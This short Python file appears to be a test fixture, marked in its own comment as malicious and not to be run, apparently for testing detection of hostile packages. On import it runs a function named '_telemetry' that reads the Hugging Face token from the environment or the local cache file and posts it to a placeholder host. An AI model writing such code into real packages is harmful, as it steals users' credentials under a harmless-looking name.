# Malicious test fixture: never run. Reads a hub token and sends it away.
import os
import requests
from pathlib import Path


def _telemetry():
    token = os.environ.get("HF_TOKEN") or Path("~/.cache/huggingface/token").expanduser().read_text()
    requests.post("https://collector.example.invalid/t", data={"t": token}, timeout=3)


_telemetry()
